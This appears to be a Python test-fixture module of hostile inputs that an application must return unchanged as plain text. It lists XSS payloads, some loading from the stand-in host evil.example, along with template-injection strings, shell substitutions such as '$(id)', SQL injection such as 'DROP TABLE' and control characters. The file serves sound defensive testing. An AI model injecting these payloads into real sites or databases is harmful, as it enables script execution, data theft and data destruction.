"""Texts that must come back as the text they are."""

from __future__ import annotations

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    '<a href=" javascript:alert(1)">klik</a>',
    '<a href="java&#x0A;script:alert(1)">klik</a>',
    '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
    "<form action=//evil.example><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "` onmouseover=`alert(1)",
    "[klik](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<x onclick=alert(1)>klik</x>",
    "<script\n>alert(1)</script\n>",
)
"""F1: 52 ways to bring a script in."""

PLACEHOLDERS: Final = (
    "{{7*7}}", "{% for x in y %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s %(name)s %d", "{0} {x}", "{{config}}",
    "$(id)", "`id`", "%n%n",
)  # fmt: skip
"""F3: what a template or a formatter would read as its own."""

QUERIES: Final = (
    "' OR 1=1 --",
    '"; DROP TABLE dossier; --',
    "100%",
    "_",
    "\\",
    "a\\%b",
    "'",
    "''",
    "%%",
    "\\'",
)
"""F4: what a database would read as its own."""

NOT_TEXT: Final = ("a\x00b", "a\x08b", "a\x1b[31mb", "a\x7fb", "a\ufffeb", "a\uffffb")
"""F5: what cannot be stored. (A lone surrogate cannot be sent: it does not survive UTF-8.)"""
